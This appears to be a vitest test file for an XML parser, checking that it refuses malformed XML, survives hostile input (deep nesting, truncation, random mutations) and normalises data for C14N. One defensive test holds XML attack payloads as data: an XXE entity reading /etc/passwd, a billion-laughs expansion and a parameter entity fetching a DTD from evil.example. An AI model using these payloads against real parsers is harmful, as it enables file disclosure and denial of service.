/**
 * riik's XML parser on hostile and malformed input (every rule of XML 1.0 5th ed. and Namespaces 1.0
 * it enforces, limits, truncation, random mutation) and on the normalisation C14N relies on.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { testDataDir } from '@riik/testing';
import { C14N, ZipReader, canonicalString, parseXml, type XmlDocument } from '../src/index.js';
import type { XmlAttr, XmlElement, XmlProcessingInstruction } from '../src/xml/dom.js';
import { expectSameAsXmldom } from './xmldom-reference.js';

function codeOf(xml: string | Uint8Array, limits = {}): string {
  try {
    parseXml(typeof xml === 'string' ? Buffer.from(xml, 'utf8') : xml, limits);
  } catch (err) {
    const code = (err as { code?: unknown }).code;
    if (typeof code !== 'string') throw err; // not a coded error: a bug
    return code;
  }
  return 'accepted';
}

const root = (xml: string): XmlElement => parseXml(Buffer.from(xml, 'utf8')).documentElement!;

function attrs(el: XmlElement): XmlAttr[] {
  const out: XmlAttr[] = [];
  for (let i = 0; i < el.attributes.length; i++) out.push(el.attributes.item(i)!);
  return out;
}

/** Each entry breaks one rule; the comment names it. */
const MALFORMED: ReadonlyArray<[string, string]> = [
  // document structure (production [1], [22], [27])
  ['no root element', ''],
  ['white space only', '  \n'],
  ['comment only', '<!-- c -->'],
  ['two root elements', '<r/><s/>'],
  ['text before the root', 'x<r/>'],
  ['text after the root', '<r/>x'],
  ['CDATA after the root', '<r/><![CDATA[x]]>'],
  ['unclosed root', '<r>'],
  ['unclosed child', '<r><s></r>'],
  ['end tag without start', '<r></s></r>'],
  ['mismatched end tag', '<r></s>'],
  ['end tag longer than start', '<r></rr>'],
  ['end tag prefix differs', '<a:r xmlns:a="urn:a" xmlns:b="urn:a"></b:r>'],
  ['stray end tag after root', '<r/></r>'],
  // XML declaration (production [23]-[32])
  ['declaration not at the start', ' <?xml version="1.0"?><r/>'],
  ['declaration after a comment', '<!--c--><?xml version="1.0"?><r/>'],
  ['declaration inside content', '<r><?xml version="1.0"?></r>'],
  ['declaration without version', '<?xml encoding="UTF-8"?><r/>'],
  ['declaration with unknown pseudo-attribute', '<?xml version="1.0" foo="bar"?><r/>'],
  ['declaration pseudo-attributes out of order', '<?xml encoding="UTF-8" version="1.0"?><r/>'],
  ['declaration with bad standalone', '<?xml version="1.0" standalone="maybe"?><r/>'],
  ['declaration with unknown version', '<?xml version="2.0"?><r/>'],
  ['declaration not closed', '<?xml version="1.0"<r/>'],
  ['declaration with mismatched quotes', '<?xml version="1.0\'?><r/>'],
  ['XML in upper case as PI target', '<r><?XML data?></r>'],
  ['xMl as PI target', '<?xMl data?><r/>'],
  // names (productions [4]-[5], Namespaces [4], [7])
  ['element name starting with a digit', '<1r/>'],
  ['element name starting with a hyphen', '<-r/>'],
  ['element name with an illegal character', '<r\u00d7s/>'],
  ['attribute name starting with a period', '<r .a="1"/>'],
  ['element name with two colons', '<a:b:c xmlns:a="urn:a"/>'],
  ['element name starting with a colon', '<:r/>'],
  ['element name ending with a colon', '<r: xmlns:r="urn:r"/>'],
  ['local part starting with a digit', '<a:1 xmlns:a="urn:a"/>'],
  ['PI target with a colon', '<r><?a:b c?></r>'],
  ['PI target not followed by space', '<r><?pi/data?></r>'],
  ['U+037E (excluded from names) in a name', '<r\u037e/>'],
  ['a name character beyond U+EFFFF', '<r\u{F0000}/>'],
  ['a combining mark starting a name', '<\u0300r/>'],
  // attributes (productions [41], [10]; WFC Unique Att Spec, No < in Attribute Values)
  ['duplicate attribute', '<r a="1" a="2"/>'],
  ['duplicate expanded name', '<r xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="2"/>'],
  ['duplicate namespace declaration', '<r xmlns:a="urn:x" xmlns:a="urn:x"/>'],
  ['duplicate default namespace', '<r xmlns="urn:x" xmlns="urn:x"/>'],
  ['< in attribute value', '<r a="<"/>'],
  ['unquoted attribute value', '<r a=1/>'],
  ['attribute without value', '<r a/>'],
  ['attribute without =', '<r a "1"/>'],
  ['attributes not separated', '<r a="1"b="2"/>'],
  ['unclosed attribute value', '<r a="1/>'],
  ['unclosed start tag', '<r a="1"'],
  ['/ not followed by >', '<r / >'],
  // references (productions [66]-[68]; WFC Legal Character, Entity Declared)
  ['undeclared entity in text', '<r>&nbsp;</r>'],
  ['undeclared entity in attribute', '<r a="&x;"/>'],
  ['bare & in text', '<r>a & b</r>'],
  ['bare & in attribute', '<r a="a & b"/>'],
  ['reference without ;', '<r>&amp</r>'],
  ['character reference to NUL', '<r>&#0;</r>'],
  ['character reference to a C0 control', '<r>&#x1;</r>'],
  ['character reference to a surrogate', '<r>&#xD800;</r>'],
  ['character reference to U+FFFE', '<r>&#xFFFE;</r>'],
  ['character reference to U+FFFF', '<r a="&#65535;"/>'],
  ['character reference beyond Unicode', '<r>&#x110000;</r>'],
  ['huge character reference', '<r>&#99999999999999999999999;</r>'],
  ['empty character reference', '<r>&#;</r>'],
  ['empty hex character reference', '<r>&#x;</r>'],
  ['hex digits in a decimal reference', '<r>&#1F;</r>'],
  ['upper-case X in a hex reference', '<r>&#X41;</r>'],
  ['empty entity reference', '<r>&;</r>'],
  // character data, comments, CDATA, PIs (productions [14], [15], [18]-[21])
  [']]> in text', '<r>a]]>b</r>'],
  ['-- in a comment', '<r><!-- a -- b --></r>'],
  ['comment ending in ---> ', '<r><!-- a ---></r>'],
  ['unclosed comment', '<r><!-- a </r>'],
  ['unclosed CDATA section', '<r><![CDATA[ a </r>'],
  ['lower-case CDATA', '<r><![cdata[x]]></r>'],
  ['unclosed PI', '<r><?pi data </r>'],
  ['markup declaration in content', '<r><!ELEMENT r ANY></r>'],
  ['unknown <! markup', '<r><!x></r>'],
  // characters outside Char (production [2])
  ['NUL in text', '<r>\u0000</r>'],
  ['C0 control in text', '<r>\u0001</r>'],
  ['C0 control in an attribute', '<r a="\u001f"/>'],
  ['C0 control in a comment', '<r><!--\u0008--></r>'],
  ['U+FFFE in text', '<r>\ufffe</r>'],
  ['U+FFFF in CDATA', '<r><![CDATA[\uffff]]></r>'],
  // namespaces (Namespaces 1.0 section 3 and 5)
  ['unbound element prefix', '<p:r/>'],
  ['unbound attribute prefix', '<r p:a="1"/>'],
  ['prefix bound only on an empty sibling', '<r><s xmlns:p="urn:p"/><p:t/></r>'],
  ['prefix bound only on a closed sibling', '<r><s xmlns:p="urn:p"><p:u/></s><p:t/></r>'],
  ['xmlns as an element prefix', '<xmlns:r/>'],
  ['declaring the xmlns prefix', '<r xmlns:xmlns="http://www.w3.org/2000/xmlns/"/>'],
  ['binding xml to another namespace', '<r xmlns:xml="urn:other"/>'],
  ['binding the XML namespace to another prefix', '<r xmlns:x="http://www.w3.org/XML/1998/namespace"/>'],
  ['binding the xmlns namespace to a prefix', '<r xmlns:x="http://www.w3.org/2000/xmlns/"/>'],
  ['the XML namespace as default', '<r xmlns="http://www.w3.org/XML/1998/namespace"/>'],
  ['the xmlns namespace as default', '<r xmlns="http://www.w3.org/2000/xmlns/"/>'],
  ['undeclaring a prefix (NS 1.0)', '<r xmlns:p="urn:p"><s xmlns:p=""/></r>'],
  ['xmlns with an empty local part', '<r xmlns:="urn:x"/>'],
];

describe('XML well-formedness', () => {
  it.each(MALFORMED)('refuses %s', (_rule, xml) => {
    expect(codeOf(xml)).toBe('XML_MALFORMED');
  });

  it('covers at least forty rules', () => {
    expect(MALFORMED.length).toBeGreaterThanOrEqual(40);
  });

  it('refuses a lone surrogate in text, a reversed pair, but takes a well-formed pair', () => {
    // UTF-8 cannot carry a lone surrogate: its CESU-style encoding is refused by the fatal decoder
    expect(codeOf(Buffer.from([0x3c, 0x72, 0x3e, 0xed, 0xa0, 0x80, 0x3c, 0x2f, 0x72, 0x3e]))).toBe(
      'XML_UNSUPPORTED_ENCODING',
    );
    expect(codeOf('<r>\u{1F600}</r>')).toBe('accepted');
    expect(codeOf('<r a="\u{10FFFD}">&#x10FFFF;</r>')).toBe('accepted');
    expect(codeOf('<\u{10000}\u0300\u00b7 \u{EFFFF}="1"/>')).toBe('accepted');
  });

  it('refuses DOCTYPE and ENTITY declarations: billion laughs, XXE, parameter entities', () => {
    for (const xml of [
      '<!DOCTYPE r><r/>',
      '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
      '<r><!DOCTYPE r></r>',
      '<r><!ENTITY x "y"></r>',
    ]) {
      expect(codeOf(xml), xml).toBe('XML_FORBIDDEN_DTD');
    }
  });

  it('refuses 100,000-deep nesting with XML_TOO_DEEP, without a stack overflow', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    expect(codeOf(deep)).toBe('XML_TOO_DEEP');
    expect(codeOf(deep, { maxDepth: 200_000 })).toBe('accepted');
    const doc = parseXml(Buffer.from(deep), { maxDepth: 200_000 });
    expect(doc.documentElement!.textContent).toBe('');
    expect(codeOf('<a>'.repeat(100_000), { maxDepth: 200_000 })).toBe('XML_MALFORMED');
  });

  it('counts nodes (text, comments and PIs too) against the node limit', () => {
    expect(codeOf('<r>' + '<a/>'.repeat(50) + '</r>', { maxNodes: 20 })).toBe('XML_TOO_LARGE');
    expect(codeOf('<r>' + '<!--c-->'.repeat(50) + '</r>', { maxNodes: 20 })).toBe('XML_TOO_LARGE');
    expect(codeOf('<r>' + 'x<?p?>'.repeat(50) + '</r>', { maxNodes: 20 })).toBe('XML_TOO_LARGE');
    // document + r + 18 children = 20 nodes
    expect(codeOf('<r>' + '<a/>'.repeat(18) + '</r>', { maxNodes: 20 })).toBe('accepted');
    expect(codeOf('<r>' + '<a/>'.repeat(19) + '</r>', { maxNodes: 20 })).toBe('XML_TOO_LARGE');
  });

  it('takes many attributes and long names in linear time', () => {
    const many = Array.from({ length: 5000 }, (_, i) => `a${i}="${i}"`).join(' ');
    expect(root(`<r ${many}/>`).attributes.length).toBe(5000);
    expect(codeOf(`<r ${many} a4999="x"/>`)).toBe('XML_MALFORMED');
    expect(root(`<${'n'.repeat(100_000)}/>`).tagName.length).toBe(100_000);
    // 50,000 prefixes in scope and 50,000 elements using the first one declared
    const declarations = Array.from({ length: 50_000 }, (_, i) => `xmlns:p${i}="urn:${i}"`).join(' ');
    const wide = root(`<r ${declarations}>${'<p0:e/>'.repeat(50_000)}</r>`);
    expect((wide.lastChild as XmlElement).namespaceURI).toBe('urn:0');
  });
});

describe('hostile input never escapes as an uncoded error', () => {
  async function realSignature(): Promise<Buffer> {
    const zip = readFileSync(join(testDataDir('digidoc'), 'containers', 'valid-bdoc-tm.bdoc'));
    const reader = await ZipReader.open(zip);
    try {
      const entry = reader.entries.find((e) => /signatures\d*\.xml$/.test(e.name))!;
      return await reader.readBytes(entry, 1 << 20);
    } finally {
      reader.close();
    }
  }

  it('a real signature file truncated at every byte offset gives a coded error', async () => {
    const xml = await realSignature();
    expect(codeOf(xml)).toBe('accepted');
    for (let end = 0; end < xml.length; end++) {
      const code = codeOf(xml.subarray(0, end));
      expect(['XML_MALFORMED', 'XML_UNSUPPORTED_ENCODING'], `truncated at ${end}`).toContain(code);
    }
  });

  it('seeded random mutations give a coded error or the document xmldom gives', async () => {
    const xml = await realSignature();
    let seed = 0x2545f491;
    const random = (n: number): number => {
      seed ^= seed << 13;
      seed ^= seed >>> 17;
      seed ^= seed << 5;
      return (seed >>> 0) % n;
    };
    const interesting = Buffer.from('<>&;"\'/=:!?[]-#x \t\r\n\u0000');
    const outcomes = new Map<string, number>();
    for (let round = 0; round < 2000; round++) {
      const bytes = Buffer.from(xml);
      for (let k = 1 + random(3); k > 0; k--) {
        const at = random(bytes.length);
        bytes[at] = random(2) ? interesting[random(interesting.length)]! : random(256);
      }
      const code = codeOf(bytes); // throws if the error is not a coded one
      outcomes.set(code, (outcomes.get(code) ?? 0) + 1);
      // what riik accepts, xmldom must accept too, with the same tree and canonical forms
      if (code === 'accepted') expectSameAsXmldom(bytes, `mutation round ${round}`, 8);
    }
    expect(outcomes.get('XML_MALFORMED')).toBeGreaterThan(100);
    expect(outcomes.get('accepted')).toBeGreaterThan(10);
  });
});

describe('XML normalisation and namespaces', () => {
  it('normalises line ends in text, attributes, comments, PIs and CDATA', () => {
    const doc = parseXml(
      Buffer.from('<r a="1\r\n2\r3\n4"><!--a\r\nb--><?p a\rb?><![CDATA[x\r\ny\rz]]>t\r\n</r>'),
    );
    const r = doc.documentElement!;
    expect(r.getAttribute('a')).toBe('1 2 3 4');
    const [comment, pi, cdata, text] = [
      r.firstChild!,
      r.firstChild!.nextSibling!,
      r.firstChild!.nextSibling!.nextSibling!,
      r.lastChild!,
    ];
    expect(comment.nodeValue).toBe('a\nb');
    expect((pi as XmlProcessingInstruction).target).toBe('p');
    expect(pi.nodeValue).toBe('a\nb');
    expect(cdata.nodeType).toBe(4);
    expect(cdata.nodeValue).toBe('x\ny\nz');
    expect(text.nodeValue).toBe('t\n');
  });

  it('keeps characters given by reference in attribute values, turns literal white space into spaces', () => {
    const r = root('<r a="&#13;&#10;&#9;|\t|\n|&#x20;" b="&lt;&amp;&gt;&quot;&apos;"/>');
    expect(r.getAttribute('a')).toBe('\r\n\t| | | ');
    expect(r.getAttribute('b')).toBe('<&>"\'');
    expect(canonicalString(r, { algorithm: C14N.c14n10 })).toBe(
      '<r a="&#xD;&#xA;&#x9;| | | " b="&lt;&amp;>&quot;\'"></r>',
    );
    expect(root('<r>&#13;</r>').textContent).toBe('\r');
  });

  it('keeps CDATA sections, comments and PIs as nodes for C14N', () => {
    const r = root('<r><![CDATA[<&>]]><!--c--><?t d?></r>');
    expect(canonicalString(r, { algorithm: C14N.c14n10 })).toBe('<r>&lt;&amp;&gt;<?t d?></r>');
    expect(canonicalString(r, { algorithm: C14N.c14n10WithComments })).toBe(
      '<r>&lt;&amp;&gt;<!--c--><?t d?></r>',
    );
  });

  it('undeclares the default namespace with xmlns="" and redeclares prefixes in children', () => {
    const r = root('<r xmlns="urn:d" xmlns:p="urn:p1"><s xmlns=""><p:t xmlns:p="urn:p2" p:a="1"/></s></r>');
    expect(r.namespaceURI).toBe('urn:d');
    const s = r.firstChild as XmlElement;
    expect(s.namespaceURI).toBeNull();
    const t = s.firstChild as XmlElement;
    expect([t.prefix, t.localName, t.namespaceURI]).toEqual(['p', 't', 'urn:p2']);
    expect(t.getAttributeNS('urn:p2', 'a')).toBe('1');
    expect(t.getAttributeNS('urn:p1', 'a')).toBeNull();
    expect(t.hasAttributeNS('urn:p2', 'a')).toBe(true);
    expect(t.getAttribute('p:a')).toBe('1');
  });

  it('shows namespace declarations among the attributes as xmldom does', () => {
    const r = root('<r xmlns="urn:d" xmlns:p="urn:p" p:a="1" b="2" xml:lang="et"/>');
    expect(attrs(r).map((a) => [a.name, a.prefix, a.localName, a.namespaceURI, a.value])).toEqual([
      ['xmlns', null, 'xmlns', 'http://www.w3.org/2000/xmlns/', 'urn:d'],
      ['xmlns:p', 'xmlns', 'p', 'http://www.w3.org/2000/xmlns/', 'urn:p'],
      ['p:a', 'p', 'a', 'urn:p', '1'],
      ['b', null, 'b', null, '2'],
      ['xml:lang', 'xml', 'lang', 'http://www.w3.org/XML/1998/namespace', 'et'],
    ]);
    expect(r.getAttributeNS('http://www.w3.org/XML/1998/namespace', 'lang')).toBe('et');
  });

  it('accepts the xml prefix bound to its own namespace, and a UTF-8 BOM', () => {
    expect(codeOf('<r xmlns:xml="http://www.w3.org/XML/1998/namespace" xml:space="preserve"/>')).toBe(
      'accepted',
    );
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<?xml version="1.0"?><r/>')]);
    expect(parseXml(bom).documentElement!.tagName).toBe('r');
  });

  it('builds a document with comments and PIs around the root, and no node for the declaration', () => {
    const doc: XmlDocument = parseXml(Buffer.from('<?xml version="1.0"?>\n<!--a--><r/><?p?>\n'));
    const kinds: string[] = [];
    for (let n = doc.firstChild; n; n = n.nextSibling) kinds.push(n.nodeName);
    expect(kinds).toEqual(['#comment', 'r', 'p']);
    expect(doc.documentElement!.parentNode).toBe(doc);
  });

  it('gives textContent of nested elements in document order', () => {
    expect(root('<r>a<s>b<t>c</t><!--x-->d</s><![CDATA[e]]><u/>f</r>').textContent).toBe('abcdef');
  });
});
